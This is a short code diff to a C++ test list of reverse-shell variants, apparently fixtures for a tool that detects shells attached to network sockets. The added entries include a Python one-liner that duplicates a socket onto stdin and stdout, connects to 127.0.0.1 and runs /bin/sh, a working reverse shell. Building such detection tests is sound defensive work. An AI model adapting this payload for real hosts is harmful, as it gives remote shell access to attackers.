@@ -45,6 +45,14 @@ const std::vector<Shell>& shells() {
       {"C dup2", {"reverse_shell", "dup2", "PORT"}},
       {"C dup3", {"reverse_shell", "dup3", "PORT"}},
       {"C fcntl", {"reverse_shell", "fcntl", "PORT"}},
+      {"C connect after dup2", {"reverse_shell", "late", "PORT"}},
+      {"C connect after dup2, child shell", {"reverse_shell", "late-child", "PORT"}},
+      {"C connect of descriptor 0, child shell", {"reverse_shell", "closed-child", "PORT"}},
+      {"python connect after dup2, child shell",
+       {"python3", "-c",
+        "import os, socket, subprocess\ns = socket.socket()\n"
+        "[os.dup2(s.fileno(), fd) for fd in (0, 1)]\n"
+        "s.connect(('127.0.0.1', PORT))\nsubprocess.call('/bin/sh')"}},
   };
   return all;
 }
